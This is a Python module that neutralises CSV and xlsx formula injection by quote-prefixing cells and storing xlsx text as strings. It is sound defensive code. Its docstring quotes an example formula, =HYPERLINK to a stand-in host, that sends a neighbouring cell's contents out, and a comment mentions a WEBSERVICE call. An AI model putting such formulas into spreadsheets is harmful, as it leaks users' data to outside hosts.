"""Spreadsheet cells that stay data: the one place formula injection is neutralised.

Segment text, memos, code and document names come from files other people
made. A CSV or xlsx cell whose text begins with ``=``, ``+``, ``-``, ``@``, tab
or carriage return is run as a formula by Excel, LibreOffice and Google Sheets
(``=HYPERLINK("http://host/?"&A2)`` sends a neighbouring cell away). Following
OWASP's "CSV Injection" advice:

* **CSV** (every writer, and the CLI's csv/tsv output): such a cell gets a
  leading single quote, and a row with a separator or quote inside a cell is
  written with every cell in double quotes, so that the separator (a ``;`` for
  a spreadsheet in a German locale) cannot start a new cell there. A cell that
  already starts with ``'`` followed by a dangerous character or another ``'``
  gets one more quote, so `unneutralise` (used by `cryonto import csv`) gives
  back exactly the original text.
* **Plain numbers** (``-2``, ``+3``, ``-2.5``, ``1e-3``) stay numbers: no
  formula can hide in them and a spreadsheet should sum them.
* **xlsx**: the text is kept unchanged but stored as a string with Excel's own
  "quote prefix" style (what typing a leading ``'`` does), never as a formula;
  openpyxl would otherwise store any string starting with ``=`` as a formula.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

#: first characters that make a spreadsheet read a cell as a formula (OWASP)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def is_plain_number(text: str) -> bool:
    """A decimal number as a spreadsheet reads one (sign, digits, point, exponent)."""
    return _NUMBER.fullmatch(text) is not None


def is_dangerous(text: str) -> bool:
    """Would a spreadsheet take this cell for a formula (or the start of one)?"""
    return text[:1] in DANGEROUS and not is_plain_number(text)


def neutralise(value: object) -> str:
    """The text to write into a CSV cell: `value`, quote-prefixed when it could run."""
    text = "" if value is None else str(value)
    if is_dangerous(text) or (text[:1] == QUOTE and text[1:2] in (*DANGEROUS, QUOTE)):
        return QUOTE + text
    return text


def unneutralise(text: str) -> str:
    """The inverse of `neutralise`: drop the one quote it added, nothing else."""
    if text[:1] == QUOTE and text[1:2] in (*DANGEROUS, QUOTE):
        return text[1:]
    return text


def csv_text(header: Sequence[object] | None, rows: Iterable[Sequence[object]],
             delimiter: str = ",") -> str:
    """Rows as CSV (or TSV), every cell neutralised: the one CSV writer.

    A row in which any cell holds a separator (``,``, ``;``, tab), a quote or a
    line break, or a signed number, has every cell quoted, so
    a spreadsheet that splits on another separator than this file's cannot start
    a formula there; other rows (numbers, plain words) are quoted only where
    RFC 4180 needs it.
    """
    buffer = io.StringIO()
    minimal = csv.writer(buffer, delimiter=delimiter, lineterminator="\n")
    quoted = csv.writer(buffer, delimiter=delimiter, lineterminator="\n",
                        quoting=csv.QUOTE_ALL)
    for row in ([header] if header is not None else []) + list(rows):
        cells = [neutralise(v) for v in row]
        writer = quoted if _needs_quotes(cells) else minimal
        writer.writerow(cells)
    return buffer.getvalue()


def _needs_quotes(cells: Sequence[str]) -> bool:
    """Could a spreadsheet splitting on another separator see a formula in this row?

    Yes if a cell holds a separator, quote or line break; or if a cell is a signed
    number (``-1``) and others follow, since read as one cell ``-1,WEBSERVICE(…)``
    starts with ``-``. Quoted, what follows is a string literal in formula syntax too.
    """
    if any(_SPLITS.search(cell) for cell in cells):
        return True
    return len(cells) > 1 and any(cell[:1] in ("+", "-") for cell in cells)


_SPLITS = re.compile("[,;\t\"'\r\n]")


def set_xlsx_cell(cell: Cell, value: object) -> None:
    """Put `value` into an openpyxl cell as data: a string is never stored as a formula."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl guesses "f" for any string starting with "="
        if is_dangerous(value) or value[:1] == QUOTE:
            cell.quotePrefix = True  # Excel shows it as text, also after editing the cell


def append_xlsx_row(ws: Worksheet, values: Sequence[object]) -> None:
    """`ws.append(values)`, but every string stays a string (see `set_xlsx_cell`)."""
    line = ws.max_row + 1 if ws.max_row > 1 or ws.cell(1, 1).value is not None else 1
    for column, value in enumerate(values, start=1):
        set_xlsx_cell(ws.cell(line, column), value)


__all__ = ["DANGEROUS", "append_xlsx_row", "csv_text", "is_dangerous", "is_plain_number",
           "neutralise", "set_xlsx_cell", "unneutralise"]
